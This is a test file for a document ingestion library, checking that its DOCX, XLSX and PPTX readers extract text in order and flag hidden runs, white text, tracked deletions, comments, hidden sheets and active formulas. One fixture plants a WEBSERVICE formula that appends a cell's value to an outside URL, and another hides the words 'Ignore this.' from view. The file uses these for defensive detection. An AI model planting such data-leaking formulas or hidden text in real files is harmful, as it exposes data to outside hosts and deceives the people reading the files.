"""DOCX, XLSX, PPTX: order, tables, what is hidden, what is damaged."""

from __future__ import annotations

import zipfile
from datetime import date
from pathlib import Path

import pytest
from docx import Document
from docx.enum.text import WD_BREAK
from docx.oxml import OxmlElement
from docx.shared import RGBColor
from openpyxl import Workbook
from openpyxl.comments import Comment
from pptx import Presentation
from pptx.util import Inches

from ingestion.errors import DamagedFileError, EmptyFileError
from ingestion.limits import Limits
from ingestion.readers.docx import DocxReader
from ingestion.readers.pptx import PptxReader
from ingestion.readers.xlsx import XlsxReader

LIMITS = Limits()


@pytest.fixture
def docx(tmp_path: Path) -> Path:
    document = Document()
    document.core_properties.title = "Waste plan"
    document.sections[0].header.paragraphs[0].text = "Running header"
    document.add_heading("Waste plan", 1)
    document.add_paragraph("We keep a register.")
    document.add_paragraph("Oil", style="List Bullet")
    document.add_paragraph("Tyres", style="List Bullet")
    table = document.add_table(rows=2, cols=2)
    for cell, text in zip(
        (cell for row in table.rows for cell in row.cells), ("Kind", "Tonnes", "Oil", "12"), strict=True
    ):
        cell.text = text
    document.add_heading("Review", 2)
    last = document.add_paragraph("Every ")
    last.add_run("year").bold = True
    last.add_run(" in May.")
    path = tmp_path / "plan.docx"
    document.save(str(path))
    return path


def test_docx_in_document_order(docx: Path):
    raw = DocxReader().read(docx, LIMITS)
    page = raw.pages[0]
    assert page.text == (
        "Waste plan\n\nWe keep a register.\n\n• Oil\n• Tyres\n\nKind | Tonnes\nOil | 12\n\nReview\n\nEvery year in May."
    )
    assert [(page.text[item.start : item.end], item.level) for item in page.headings] == [
        ("Waste plan", 1),
        ("Review", 2),
    ]
    assert raw.metadata["title"] == "Waste plan"
    assert raw.suspicions == []


def test_strict_docx_is_read_as_well(docx: Path, tmp_path: Path):
    path = tmp_path / "strict.docx"
    with zipfile.ZipFile(docx) as old, zipfile.ZipFile(path, "w") as new:
        for member in old.infolist():
            data = old.read(member)
            data = data.replace(
                b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
                b"http://purl.oclc.org/ooxml/wordprocessingml/main",
            ).replace(
                b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
                b"http://purl.oclc.org/ooxml/officeDocument/relationships",
            )
            new.writestr(member, data)
    assert DocxReader().read(path, LIMITS).pages[0].text == DocxReader().read(docx, LIMITS).pages[0].text


def test_docx_hidden_deleted_and_commented_words(tmp_path: Path):
    document = Document()
    paragraph = document.add_paragraph("Seen.")
    paragraph.add_run(" Ignore this.").font.hidden = True
    paragraph.add_run(" White words.").font.color.rgb = RGBColor(255, 255, 255)
    deletion = OxmlElement("w:del")
    run = OxmlElement("w:r")
    words = OxmlElement("w:delText")
    words.text = "Gone."
    run.append(words)
    deletion.append(run)
    paragraph._p.append(deletion)
    document.add_comment(paragraph.runs[0], text="A remark", author="A", initials="A")
    path = tmp_path / "hidden.docx"
    document.save(str(path))
    raw = DocxReader().read(path, LIMITS)
    assert raw.pages[0].text == "Seen."
    assert [found.quote for found in raw.suspicions] == ["Ignore this. White words.", "", "A remark"]
    assert "tracked deletions" in raw.suspicions[1].message


def test_docx_page_breaks_make_pages(tmp_path: Path):
    document = Document()
    document.add_paragraph("First page.").add_run().add_break(WD_BREAK.PAGE)
    document.add_paragraph("Second page.")
    path = tmp_path / "pages.docx"
    document.save(str(path))
    assert [page.text for page in DocxReader().read(path, LIMITS).pages] == ["First page.", "Second page."]


def test_docx_without_words(tmp_path: Path):
    path = tmp_path / "empty.docx"
    Document().save(str(path))
    with pytest.raises(EmptyFileError, match="holds no text"):
        DocxReader().read(path, LIMITS)


@pytest.fixture
def book() -> Workbook:
    book = Workbook()
    sheet = book.active
    sheet.title = "Permits"
    sheet.append(["Permits of the mine"])
    sheet.append([])
    sheet.append(["Permit", "Expires", "Share"])
    sheet.append(["Water use", date(2027, 3, 31), 0.254])
    sheet["C4"].number_format = "0.0%"
    return book


def _saved(book: Workbook, tmp_path: Path) -> Path:
    path = tmp_path / "book.xlsx"
    book.save(path)
    return path


def test_xlsx_rows_carry_their_headers(book: Workbook, tmp_path: Path):
    raw = XlsxReader().read(_saved(book, tmp_path), LIMITS)
    assert [(page.label, page.text) for page in raw.pages] == [
        (
            "Sheet: Permits",
            "Permits\n\nPermits of the mine\nPermit | Expires | Share\n"
            "Permit: Water use | Expires: 2027-03-31 | Share: 25.4%",
        )
    ]
    assert raw.suspicions == []
    assert raw.left_out == []


def test_xlsx_hidden_sheets_comments_and_acting_formulas(book: Workbook, tmp_path: Path):
    hidden = book.create_sheet("Back")
    hidden.append(["secret figure", 5])
    hidden.sheet_state = "hidden"
    book["Permits"]["A4"].comment = Comment("A remark", "A")
    book["Permits"]["D4"] = '=WEBSERVICE("http://example.org/"&A4)'
    raw = XlsxReader().read(_saved(book, tmp_path), LIMITS)
    assert raw.pages[1].label == "Sheet: Back (hidden)"
    assert {found.kind for found in raw.suspicions} == {"hidden text", "formula"}
    assert any("WEBSERVICE" in found.quote for found in raw.suspicions)
    assert "a cell holds a formula without a stored value" in raw.left_out[0]


def test_xlsx_a_stray_cell_far_down_costs_nothing(book: Workbook, tmp_path: Path):
    book["Permits"]["A900000"] = "far"
    assert "Water use" in XlsxReader().read(_saved(book, tmp_path), LIMITS).pages[0].text


def test_pptx_slides_tables_and_notes(tmp_path: Path):
    show = Presentation()
    slide = show.slides.add_slide(show.slide_layouts[1])
    slide.shapes.title.text = "Safety"
    slide.placeholders[1].text = "No accident in May\nTwo near misses"
    slide.notes_slide.notes_text_frame.text = "Say thanks."
    table = show.slides.add_slide(show.slide_layouts[6]).shapes.add_table(2, 2, 0, 0, Inches(4), Inches(1)).table
    for at, text in enumerate(("Month", "Hours", "May", "120")):
        table.cell(at // 2, at % 2).text = text
    show.slides[1]._element.set("show", "0")
    path = tmp_path / "show.pptx"
    show.save(str(path))
    raw = PptxReader().read(path, LIMITS)
    assert [page.text for page in raw.pages] == [
        "Safety\n\n• No accident in May\n• Two near misses\n\nNotes of the speaker: Say thanks.",
        "Month | Hours\nMonth: May | Hours: 120",
    ]
    assert [(item.start, item.end, item.level) for item in raw.pages[0].headings] == [(0, 6, 1)]
    assert [found.page for found in raw.suspicions] == [2]


@pytest.mark.parametrize(
    ("reader", "member"),
    [(DocxReader(), "word/document.xml"), (XlsxReader(), "xl/workbook.xml"), (PptxReader(), "ppt/presentation.xml")],
    ids=["docx", "xlsx", "pptx"],
)
def test_damaged_packages_are_named(tmp_path: Path, reader, member: str):
    path = tmp_path / "damaged.bin"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(member, "<broken")
    with pytest.raises(DamagedFileError, match=r"damaged|missing"):
        reader.read(path, LIMITS)
